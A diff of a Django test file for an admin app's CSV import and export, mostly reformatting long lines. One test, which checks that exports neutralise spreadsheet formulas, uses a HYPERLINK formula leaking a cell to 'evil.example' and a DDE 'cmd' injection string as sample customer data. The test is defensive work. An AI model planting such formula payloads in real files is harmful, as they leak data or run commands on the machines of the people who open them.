@@ -1,4 +1,5 @@
 """Line CSV import: a preview with per-row errors, then the good rows imported and the bad reported."""
+
 import csv
 import io
 
@@ -34,7 +35,10 @@ def test_import_previews_then_imports_good_rows_and_reports_bad(finance_client, 
     done = client.post(IMPORT, {"text": text, "confirm": "yes"})
     assert done.status_code == 200 and "5 rows were not imported" in done.content.decode()
     imported = Line.objects.exclude(pk=existing.pk).order_by("iccid")
-    assert [(line.iccid, line.package_id) for line in imported] == [("89860000000000000001", package.pk), ("89860000000000000002", None)]
+    assert [(line.iccid, line.package_id) for line in imported] == [
+        ("89860000000000000001", package.pk),
+        ("89860000000000000002", None),
+    ]
     assert ChangeRecord.objects.filter(action="imported", actor=user).count() == 2
 
 
@@ -53,8 +57,12 @@ def test_support_may_not_import(support_client):
 
 def test_export_charges_formats_money_at_the_edge(support_client, customer, line, package):
     client, _user = support_client
-    charge = make_charge(user=customer, line=line, package=package, amount_minor=123456, currency="CNY", status="succeeded")
-    response = client.post("/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0})
+    charge = make_charge(
+        user=customer, line=line, package=package, amount_minor=123456, currency="CNY", status="succeeded"
+    )
+    response = client.post(
+        "/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0}
+    )
     assert response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[1][6:9] == ["1234.56", "0.00", "CNY"]
@@ -62,9 +70,13 @@ def test_export_charges_formats_money_at_the_edge(support_client, customer, line
 
 def test_export_lines_and_customers(support_client, customer, line):
     client, _user = support_client
-    lines = client.post("/admin/accounts/line/", {"action": "export_lines_csv", "_selected_action": [line.pk], "index": 0})
+    lines = client.post(
+        "/admin/accounts/line/", {"action": "export_lines_csv", "_selected_action": [line.pk], "index": 0}
+    )
     assert line.iccid in lines.content.decode()
-    users = client.post("/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0})
+    users = client.post(
+        "/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0}
+    )
     assert "alice@example.com" in users.content.decode()
 
 
@@ -73,11 +85,16 @@ def test_admin_exports_neutralise_spreadsheet_formulas_in_customer_text(support_
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     customer = make_user(email="formula@example.com", name=evil)
     evil_line = make_line(owner=customer, label="x")
-    charge = make_charge(user=customer, line=evil_line, package=package, failure_message="+cmd|' /C calc'!A0",
-                         status="failed")
+    charge = make_charge(
+        user=customer, line=evil_line, package=package, failure_message="+cmd|' /C calc'!A0", status="failed"
+    )
     exports = [
-        client.post("/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0}),
-        client.post("/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0}),
+        client.post(
+            "/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0}
+        ),
+        client.post(
+            "/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0}
+        ),
     ]
     for response in exports:
         rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
